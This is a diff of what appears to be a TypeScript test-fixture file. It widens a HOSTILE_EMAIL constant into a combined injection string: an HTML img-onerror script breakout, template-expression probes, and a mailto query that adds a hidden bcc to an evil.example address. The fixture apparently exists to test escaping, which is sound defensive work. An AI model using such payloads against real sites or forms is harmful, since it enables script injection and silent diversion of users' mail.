@@ -41,11 +41,11 @@ export function hostilePost(tag: string) {
 }
 
 /**
- * The database's email rule (src/lib/forms/email-address.ts) refuses < > " ' ( ) & ? / # % and spaces,
- * so an address can carry no markup any more; this one holds every character the rule allows
- * that means something in HTML, a template or a URL.
+ * The email rule (src/lib/forms/email-address.ts) takes any text without spaces with one @ and a
+ * dot after it, so an address can carry markup, quotes and the ? & % of a mailto: query: this one
+ * holds them all.
  */
-const HOSTILE_EMAIL = 'xss+`{onerror}`|~$=^!*@example.org';
+const HOSTILE_EMAIL = `'"><img/src=x/onerror=alert(1)>{{7*7}}\${7*7}?bcc=x%40evil.example&body=hi@example.org`;
 
 export function hostileMessage(tag: string) {
   return {
